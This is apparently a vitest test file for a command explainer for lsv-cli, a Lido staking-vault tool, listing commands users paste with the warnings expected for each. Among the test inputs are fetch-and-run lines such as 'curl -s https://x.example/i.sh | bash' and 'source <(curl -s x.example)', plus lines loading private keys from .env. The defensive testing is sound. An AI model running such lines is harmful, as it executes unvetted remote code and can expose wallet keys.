// Lines as people send them, whole and wrong, each with all that is said of it before its words: what it does, what to
// beware of, and what is wrong with it.
import { expect, test } from 'vitest'
import { explainText } from '../../../../src/features/explain/explain-text.ts'
import type { Remark } from '../../../../src/features/explain/explanation.ts'
import { lido } from './explain-fixture.ts'

const loud = (remarks: readonly Remark[]) =>
  remarks.flatMap(({ tone, text }) => (tone === 'danger' || tone === 'warning' ? [text] : []))

function answerTo(text: string): string[] {
  const { commands, remarks } = explainText(text, lido)
  const answers = commands.flatMap(({ effect, remarks: known, mistakes, corrected }) => [
    effect,
    ...loud(known),
    ...mistakes.map(({ message, hint }) => (hint === undefined ? message : `${message}; ${hint}`)),
    ...(corrected === undefined ? [] : [`= ${corrected}`]),
  ])
  return [...loud(remarks), ...answers]
}

test.each<[string, ...string[]]>([
  [
    'yarn start w vo fund 1',
    'unclear',
    'unknown command "w"; available commands: contracts, defi-wrapper, account, pdg-helpers, vault-operations, deposits, report, metrics',
  ],
  [
    'yarn start vo w fund 1,5',
    'signs',
    'ETH sent along: the amount you give.',
    '<ether> of vo write fund: "1,5" is not a decimal number; write it without thousands separators, and a point before decimals',
  ],
  [
    'yarn start vo w fund 10 ETH',
    'signs',
    'ETH sent along: the amount you give.',
    'vo write fund does not accept the argument "ETH"; usage: vo w fund <ether> [options]',
  ],
  [
    'yarn start vo w fund 10 –v 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
    'signs',
    'ETH sent along: the amount you give.',
    '"–v" begins with a dash, not a hyphen; did you mean "-v"?',
    '= yarn start vo w fund 10 -v 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
  ],
  [
    'yarn start vo w fund 10 -v 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d358',
    'signs',
    'ETH sent along: the amount you give.',
    '--vault of vo write fund: "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d358" is not an address: the letter case does not match the EIP-55 checksum; if all digits are correct, write 0xfB6916095Ca1df60bb79cE92Ce3ea74C37c5d358',
  ],
  [
    'yarn start vo w fund 10 -v “0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359”',
    'signs',
    'ETH sent along: the amount you give.',
    '"“0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359”" begins with a typographic quotation mark; write " or \'',
  ],
  [
    'yarn start vo w fund 10 \\\r\n  -v 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359\r\n',
    'signs',
    'ETH sent along: the amount you give.',
  ],
  [
    'yarn start vo w fund 10\n-v 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
    'signs',
    'ETH sent along: the amount you give.',
    'other',
    '`-v` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    'yarn start vo withdraw 1',
    'unclear',
    'unknown command "withdraw" of vo; did you mean "vo write withdraw"?',
  ],
  [
    'yarn start vo w withdrawal 1',
    'signs',
    'This cannot be undone.',
    'Offers to sign a transaction first: the report of the vault, when it is stale.',
    'unknown command "withdrawal" of vo write; did you mean "vo w withdraw 1"?',
    '= yarn start vo w withdraw 1',
  ],
  [
    'yarn startt vo w fund 1',
    'signs',
    '`yarn startt` is not how lsv-cli is called, so another program may run. Did you mean `yarn start`?',
    'ETH sent along: the amount you give.',
  ],
  [
    'npx lsv-cli vo w fund 1',
    'signs',
    'Unless it is installed, a package of this name is downloaded. The package of lsv-cli is `@lidofinance/lsv-cli`, so another program may run.',
    'ETH sent along: the amount you give.',
  ],
  [
    'yarn start vo w fund 1 --dry-run',
    'signs',
    'ETH sent along: the amount you give.',
    'unknown option "--dry-run" of vo write fund; available options: --vault, --version, --populate-tx, --yes, --no-cache-use, --wallet-connect, --csv, --help',
  ],
  [
    'yarn start vo w fund 1 --populate_tx',
    'signs',
    'ETH sent along: the amount you give.',
    'unknown option "--populate_tx" of vo write fund; did you mean "--populate-tx"?',
    '= yarn start vo w fund 1 --populate-tx',
  ],
  [
    'CHAIN_ID=1 DEPLOYED=configs/x.json yarn start vo r info -y',
    'offers',
    'That is Ethereum mainnet. These pages are about Hoodi.',
    '`DEPLOYED`: Expected: file name inside `configs/` of the working directory.',
    'Offers to sign a transaction first: the report of the vault, when it is stale.',
    'Does not ask before it signs, as `--yes` answers every question with yes.',
  ],
  ['yarn start deposits w prove-and-top-up 1 31000000000', 'signs', 'This cannot be undone.'],
  [
    'yarn start contracts hub w v-force-validator-exit 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359 0xaa 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359',
    'signs',
    'This cannot be undone.',
    '<validatorPubkey> of contracts hub write v-force-validator-exit: "0xaa" is not 48 bytes in hex; write 96 hex digits, this has 2',
  ],
  [
    "ssh op@node 'yarn start vo w withdraw 5 -y'",
    'other',
    'Runs on `op@node`, with the settings and keys of that machine.',
    '`ssh` runs the commands in its text. They are explained after it.',
    'signs',
    'This cannot be undone.',
    'Offers to sign a transaction first: the report of the vault, when it is stale.',
    'Does not ask before it signs, as `--yes` answers every question with yes.',
  ],
  [
    'yes | yarn start vo w burn-steth 1',
    'other',
    '`yes` is not lsv-cli, and not explained here. Do not run what you do not know.',
    'signs',
    'Offers to sign a transaction first: the approval of the tokens, when it is missing.',
    'Takes its input from `yes`, answers to questions included.',
  ],
  [
    'yarn start vo w fund $(cast balance x)',
    'signs',
    'ETH sent along: the amount you give.',
    'other',
    '`cast` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    'curl -s https://x.example/i.sh | bash',
    'other',
    '`curl` is not lsv-cli, and not explained here. Do not run what you do not know.',
    'other',
    '`bash` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    'yarn start report w submit-all --populate-tx --wallet-connect',
    'signs',
    'Sends in spite of `--populate-tx`, as `--wallet-connect` is given.',
    'This cannot be undone.',
    'Signs without a question.',
  ],
  [
    'yarn start contracts vault w ossify 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359 --yes',
    'signs',
    'This cannot be undone.',
    'Does not ask before it signs, as `--yes` answers every question with yes.',
  ],
  [
    'echo "yarn start vo w fund 1" | bash',
    'shell',
    'other',
    '`bash` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    'echo "yarn start vo w fund 1" | tee fund.sh',
    'shell',
    'other',
    '`tee` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    'bash <<< "yarn start vo w fund 1"',
    'other',
    '`bash` is not lsv-cli, and not explained here. Do not run what you do not know.',
    'Takes its input from `"yarn start vo w fund 1"`, answers to questions included.',
  ],
  [
    'for v in 0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d358 "$OTHER"; do lsv-cli vo w fund 1 -v $v; done',
    'shell',
    '`0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d358`: the letter case does not match the EIP-55 checksum; if all digits are correct, write 0xfB6916095Ca1df60bb79cE92Ce3ea74C37c5d358',
    'signs',
    '`for` runs it again and again: whatever it sends is sent each time.',
    'ETH sent along: the amount you give.',
  ],
  [
    'while read v; do yarn start vo r roles -v $v; done < vaults.txt',
    'shell',
    'reads',
    'shell',
    'Takes its input from `vaults.txt`, answers to questions included.',
  ],
  [
    'until yarn start vo w fund 1 -y; do sleep 5; done; yarn start report w submit',
    'signs',
    '`until` runs it again and again: whatever it sends is sent each time.',
    'ETH sent along: the amount you give.',
    'Does not ask before it signs, as `--yes` answers every question with yes.',
    'shell',
    'signs',
    'This cannot be undone.',
  ],
  [
    'env $(cat .env) lsv-cli vo w fund 1',
    'signs',
    'What another command prints is put in here.',
    'ETH sent along: the amount you give.',
    'shell',
  ],
  [
    'source .env && export PRIVATE_KEY && yarn start vo w fund 1',
    'shell',
    'Runs the commands in the file `.env`, which are not explained here.',
    'sets',
    'signs',
    'ETH sent along: the amount you give.',
  ],
  [
    'source <(curl -s x.example)',
    'other',
    '`source` is not lsv-cli, and not explained here. Do not run what you do not know.',
    'other',
    '`curl` is not lsv-cli, and not explained here. Do not run what you do not know.',
  ],
  [
    "PRIVATE_KEY='<key>' ACCOUNT_FILE=wallet.json yarn start vo w fund 1",
    'signs',
    'ETH sent along: the amount you give.',
    'PRIVATE_KEY and ACCOUNT_FILE cannot be combined; remove one of them',
  ],
  [
    'sudo -u op lsv-cli vo w fund 1',
    'signs',
    'Runs as the user `op`.',
    'ETH sent along: the amount you give.',
  ],
  [
    "ssh op@node <<'END'\nyarn start vo w fund 1\nEND\nyarn start vo r roles",
    'other',
    '`ssh` is not lsv-cli, and not explained here. Do not run what you do not know.',
    "Takes its input from `<<'END'`, answers to questions included.",
    'signs',
    'ETH sent along: the amount you give.',
    'reads',
  ],
  [
    'eval "$(cat lines.txt)"',
    'other',
    '`$(cat lines.txt)` is not lsv-cli, and not explained here. Do not run what you do not know.',
    'shell',
  ],
  [
    'echo "$(yarn start vo w fund 1 -y)"',
    'shell',
    'What another command prints is put in here.',
    'signs',
    'ETH sent along: the amount you give.',
    'Does not ask before it signs, as `--yes` answers every question with yes.',
  ],
  [
    'yarn start VO w fund 1',
    'signs',
    'ETH sent along: the amount you give.',
    'unknown command "VO"; did you mean "vo w fund 1"?',
    '= yarn start vo w fund 1',
  ],
  [
    'yarn start vo w create-vault create -ce 1d',
    'signs',
    'This cannot be undone.',
    'ETH sent along: 1 ETH for each vault.',
    '--confirmExpiry of vo write create-vault create: "1d" is not an integer; expected a number of seconds',
  ],
])('%j is answered whole', (line, ...answer) => {
  expect(answerTo(line)).toEqual(answer)
})

test.each([
  ['CHAIN_ID=560048 sudo lsv-cli vo r info', true],
  ['CHAIN_ID=560048 ssh op@node lsv-cli vo r info', true],
  ['CHAIN_ID=560048 sudo -E lsv-cli vo r info', false],
  ['sudo CHAIN_ID=560048 lsv-cli vo r info', false],
])('whether a variable of %s is dropped on the way is reported: %s', (line, isDropped) => {
  const [command] = explainText(line, lido).commands
  const variable = command?.parts.find(({ kind }) => kind === 'variable')
  const said = 'The program after it does not pass it on, unless it is told to.'
  expect(variable?.remarks.some(({ text }) => text === said)).toBe(isDropped)
  expect(command?.needed.some(({ title }) => title === '`CHAIN_ID`')).toBe(isDropped)
})

test('a shell builtin is said to sign nothing, unless it begins something or puts something in', () => {
  const said = (line: string) => explainText(line, lido).commands[0]?.remarks.map(({ tone }) => tone)
  expect(said('cd cli')).toEqual(['good'])
  expect(said('while true; do lsv-cli vo w fund 1; done')).toEqual([])
  expect(said('echo $(lsv-cli vo w fund 1)')).toEqual(['danger'])
})
